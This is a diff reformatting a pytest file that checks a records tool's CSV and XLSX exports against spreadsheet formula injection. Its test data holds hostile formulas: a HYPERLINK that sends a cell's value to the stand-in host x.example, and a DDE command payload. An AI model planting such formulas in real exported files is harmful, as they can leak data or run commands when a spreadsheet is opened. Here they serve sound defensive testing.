@@ -24,23 +24,32 @@ from habeas.store.db import Store
 from habeas.store.schema_linkage import ReviewDecision
 
 FORMULA = '=HYPERLINK("http://x.example/?q="&A1), ANA'
-LIST = ('No.,NAME,DOB,NATIONALITY\n'
-        '@SUM(1),"=HYPERLINK(""http://x.example/?q=""&A1), ANA",05/04/1990,VEN\n'
-        '-2,"+CALC, JOSE",05/04/1990,VEN\n'
-        "7,\"'QUOTED, LUIS\",05/04/1990,VEN\n")
+LIST = (
+    "No.,NAME,DOB,NATIONALITY\n"
+    '@SUM(1),"=HYPERLINK(""http://x.example/?q=""&A1), ANA",05/04/1990,VEN\n'
+    '-2,"+CALC, JOSE",05/04/1990,VEN\n'
+    '7,"\'QUOTED, LUIS",05/04/1990,VEN\n'
+)
 SRC = Path(__file__).resolve().parents[2] / "src" / "habeas"
 
 
 def _load(store: Store, tmp_path: Path) -> None:
     path = tmp_path / "list.csv"
     path.write_text(LIST, encoding="utf-8")
-    import_file(store, path, ImportOptions(
-        source_title="Lista", source_kind="list", date_order="MDY",
-        defaults={"event_type": "removal_flight", "event_date": "2025-03-15"}), actor="ana")
+    import_file(
+        store,
+        path,
+        ImportOptions(
+            source_title="Lista",
+            source_kind="list",
+            date_order="MDY",
+            defaults={"event_type": "removal_flight", "event_date": "2025-03-15"},
+        ),
+        actor="ana",
+    )
 
 
-@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'x",
-                                   "\uff1dcmd"])
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'x", "\uff1dcmd"])
 def test_a_dangerous_text_gets_one_quote_and_comes_back(value: str) -> None:
     assert csv_value(value) == "'" + value
     assert csv_text(csv_value(value)) == value
@@ -96,19 +105,30 @@ def test_negative_numbers_stay_numbers_in_xlsx(tmp_path: Path) -> None:
     sheet.append([xlsx_cell(sheet, v) for v in (-5, -2.5, "-5", "=1+1")])
     workbook.save(tmp_path / "n.xlsx")
     row = next(load_workbook(tmp_path / "n.xlsx")["n"].iter_rows())
-    assert [(c.value, c.data_type) for c in row] == [(-5, "n"), (-2.5, "n"), ("-5", "s"),
-                                                     ("=1+1", "s")]
+    assert [(c.value, c.data_type) for c in row] == [
+        (-5, "n"),
+        (-2.5, "n"),
+        ("-5", "s"),
+        ("=1+1", "s"),
+    ]
 
 
 @pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
-def test_review_export_neutralises_formulas_and_round_trips(store: Store, demo_case: Path,
-                                                             tmp_path: Path) -> None:
+def test_review_export_neutralises_formulas_and_round_trips(
+    store: Store, demo_case: Path, tmp_path: Path
+) -> None:
     load_case(store, demo_case)
     link(store, actor="tester")
     admin = Reader("admin", "ana", "documentation")
     pair = queue(store, 1, reader=admin).pairs[0]
-    decide(store, (pair["record_a"], pair["record_b"]), "unsure", reviewer="=ana",
-           note="=cmd|' /C calc'!A0", reader=admin)
+    decide(
+        store,
+        (pair["record_a"], pair["record_b"]),
+        "unsure",
+        reviewer="=ana",
+        note="=cmd|' /C calc'!A0",
+        reader=admin,
+    )
     path = tmp_path / "queue.csv"
     export_decisions(store, path, reader=admin)
     rows = list(csv.DictReader(path.open(encoding="utf-8")))
@@ -122,8 +142,11 @@ def test_review_export_neutralises_formulas_and_round_trips(store: Store, demo_c
         writer.writerow(row)
     assert import_decisions(store, path, reviewer="ana", reader=admin) == 1
     with store.read() as s:
-        latest = s.query(ReviewDecision).filter(ReviewDecision.superseded_at.is_(None),
-                                                ReviewDecision.decision == "different").one()
+        latest = (
+            s.query(ReviewDecision)
+            .filter(ReviewDecision.superseded_at.is_(None), ReviewDecision.decision == "different")
+            .one()
+        )
     assert (latest.note, latest.reviewer) == ("=cmd|' /C calc'!A0", "=ana")
 
 
